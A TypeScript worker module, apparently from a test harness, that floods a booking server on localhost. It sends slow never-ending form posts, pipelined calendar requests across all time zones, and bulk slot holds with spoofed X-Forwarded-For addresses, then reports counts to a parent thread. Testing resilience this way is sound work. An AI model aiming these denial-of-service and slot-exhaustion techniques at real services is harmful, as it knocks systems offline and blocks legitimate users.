import { randomBytes } from "node:crypto";
import { connect, type Socket } from "node:net";
import { parentPort, workerData } from "node:worker_threads";

// Runs in a thread of its own: what it costs is not on the visitor's account.
const { port } = workerData as { port: number };
const connectionsOfAKind = 16;
const mostAtOnce = 20;
const trickleMs = 20;
const zones = Intl.supportedValuesOf("timeZone");
const counts = { "forms trickled": 0, "pages asked for at once": 0, "hours taken": 0 };
let turn = 0;

const pick = <Item>(items: readonly Item[]): Item => items[(turn += 1) % items.length]!;

function open(): Socket {
  const socket = connect(port, "127.0.0.1");
  socket.on("error", () => undefined);
  return socket;
}

async function read(socket: Socket): Promise<string> {
  let text = "";
  socket.on("data", (chunk: Buffer) => (text += chunk.toString("latin1")));
  await new Promise((resolve) => socket.once("close", resolve));
  return text;
}

async function ask(request: string): Promise<string> {
  const socket = open();
  socket.write(request);
  return read(socket);
}

function writeGet(path: string, connection: "close" | "keep-alive"): string {
  return `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: ${connection}\r\n\r\n`;
}

/** The head of a form and the part of its body that is given, from an address that nobody has heard of yet. */
function writeForm(body: string, length = body.length): string {
  return [
    "POST /booking/hold HTTP/1.1\r\nHost: x\r\nConnection: close",
    `X-Forwarded-For: ${[10, ...randomBytes(3)].join(".")}`,
    "Content-Type: application/x-www-form-urlencoded",
    `Content-Length: ${String(length)}\r\n\r\n${body}`,
  ].join("\r\n");
}

/** Sends a form one letter at a time, and never ends it. */
async function trickle(): Promise<void> {
  const socket = open();
  socket.write(writeForm("", 10_000));
  counts["forms trickled"] += 1;
  const sending = setInterval(() => socket.write("x"), trickleMs);
  await read(socket);
  clearInterval(sending);
}

/** Asks at once for the calendar in as many zones as a connection may. */
async function pipeline(): Promise<void> {
  const asks = Array.from({ length: mostAtOnce }, (_, index) => {
    const path = `/booking?zone=${encodeURIComponent(pick(zones))}`;
    return writeGet(path, index === mostAtOnce - 1 ? "close" : "keep-alive");
  });
  counts["pages asked for at once"] += (await ask(asks.join(""))).split("HTTP/1.1 200").length - 1;
}

/** Takes an hour, so that what is kept of the calendar is worth nothing. */
async function hold(): Promise<void> {
  const calendar = await ask(writeGet("/booking?week=2099-01-01", "close"));
  const slots = [...calendar.matchAll(/slot=([\w%.:-]+)/g)].map(([, slot = ""]) => slot);
  const request = randomBytes(16).toString("hex");
  const person = `name=Eva&email=${request}%40example.com`;
  const answer = await ask(writeForm(`slot=${pick(slots)}&request=${request}&${person}`));
  if (answer.startsWith("HTTP/1.1 303")) counts["hours taken"] += 1;
}

for (const attack of [trickle, pipeline, pipeline, hold]) {
  for (let connection = 0; connection < connectionsOfAKind; connection += 1) {
    void (async () => {
      for (;;) await attack();
    })();
  }
}
const tell = (what: unknown) => {
  // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a worker has none
  parentPort?.postMessage(what);
};
parentPort?.on("message", () => tell(counts));
tell("begun");
